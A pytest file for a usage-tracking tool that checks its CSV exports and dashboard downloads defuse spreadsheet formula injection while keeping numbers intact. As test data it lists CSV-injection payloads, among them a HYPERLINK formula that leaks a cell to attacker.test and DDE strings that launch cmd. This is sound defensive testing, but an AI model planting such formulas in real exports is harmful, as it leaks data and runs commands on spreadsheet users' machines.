"""CSV injection: names set by API callers (apps, keys, users, variants) that a spreadsheet would run as formulas
are written inert in every CSV the tool writes (`orusage export --format csv`, the dashboard's downloads);
numbers stay numbers, and Parquet keeps the stored values."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import duckdb
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from core.csvsafe import FORMULA_STARTS, neutralise
from dashboard.frames import csv_bytes
from queries.generations_reads import to_bytes
from queries.store import publish_snapshot
from tests.helpers import run_cli

HOSTILE = [
    '=HYPERLINK("http://attacker.test/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["plain name", "a=b", "100% model", "'already quoted"]


@pytest.fixture(scope="module")
def hostile_db(demo_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the demo store whose provider names are hostile (and harmless) text, and one cost negative."""
    db = tmp_path_factory.mktemp("csv-injection") / "orusage.duckdb"
    shutil.copyfile(demo_db, db)
    names = HOSTILE + HARMLESS
    con = duckdb.connect(str(db))
    try:
        rows = con.execute("SELECT rowid FROM activity ORDER BY rowid LIMIT ?", [len(names)]).fetchall()
        assert len(rows) == len(names)
        for (rowid,), name in zip(rows, names, strict=True):
            con.execute("UPDATE activity SET provider_name = ? WHERE rowid = ?", [name, rowid])
        con.execute("UPDATE activity SET usage = -0.5 WHERE rowid = ?", [rows[0][0]])
        con.execute("CHECKPOINT")
    finally:
        con.close()
    publish_snapshot(db)
    return db


def _stored(db: Path, sql: str) -> list[tuple[object, ...]]:
    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute(sql).fetchall()
    finally:
        con.close()


@pytest.mark.reliability("bad-input")
def test_export_csv_neutralises_formula_cells_and_keeps_numbers(hostile_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    result = run_cli(["export", "--format", "csv", "--out", str(out)], {"ORUSAGE_DB": str(hostile_db)})
    assert result.returncode == 0, result.stderr
    with (out / "activity.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    providers = [r["provider_name"] for r in rows]
    for name in HOSTILE:  # each written once, with the apostrophe in front
        assert providers.count("'" + name) == 1, name
    for name in HARMLESS:
        assert providers.count(name) == 1, name
    # No text cell of any exported table starts a formula.
    for path in out.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.DictReader(fh):
                for column, value in row.items():
                    if value and value.startswith(FORMULA_STARTS):
                        float(value)  # only a number may start with '-' or '+' (a typed value, not text)
                        assert value.startswith(("-", "+")), (path.name, column, value)
    # Numbers stay numbers: the negative cost is written as -0.5, and the column still sums as stored.
    (expected_sum,) = _stored(hostile_db, "SELECT sum(usage) FROM activity")[0]
    usage = [float(r["usage"]) for r in rows]
    assert any(u == pytest.approx(-0.5) for u in usage)
    assert sum(usage) == pytest.approx(float(expected_sum), abs=1e-9)  # type: ignore[arg-type]


def test_parquet_keeps_the_stored_text(hostile_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "parquet"
    result = run_cli(["export", "--format", "parquet", "--out", str(out)], {"ORUSAGE_DB": str(hostile_db)})
    assert result.returncode == 0, result.stderr
    names = {n for f in (out / "activity").rglob("*.parquet") for n in pq.read_table(f)["provider_name"].to_pylist()}
    assert set(HOSTILE + HARMLESS) <= names


def test_dashboard_downloads_neutralise_text_cells() -> None:
    frame = pd.DataFrame({"app": HOSTILE + HARMLESS, "spend": [-1.25] + [1.0] * (len(HOSTILE) + len(HARMLESS) - 1)})
    back = pd.read_csv(io.BytesIO(csv_bytes(frame)), keep_default_na=False)
    assert back["app"].tolist() == [neutralise(v) for v in HOSTILE + HARMLESS]
    assert back["app"].tolist()[: len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert back["spend"].dtype == float and back["spend"].iloc[0] == pytest.approx(-1.25)
    # The Generations page's file (built from Arrow): same rule, numbers untouched.
    table = pa.table({"external_user": HOSTILE + HARMLESS, "usage": [-0.5] * len(HOSTILE + HARMLESS)})
    with io.StringIO(to_bytes(table, "csv").decode("utf-8")) as fh:
        rows = list(csv.DictReader(fh))
    assert [r["external_user"] for r in rows] == [neutralise(v) for v in HOSTILE + HARMLESS]
    assert [float(r["usage"]) for r in rows] == pytest.approx([-0.5] * len(rows))
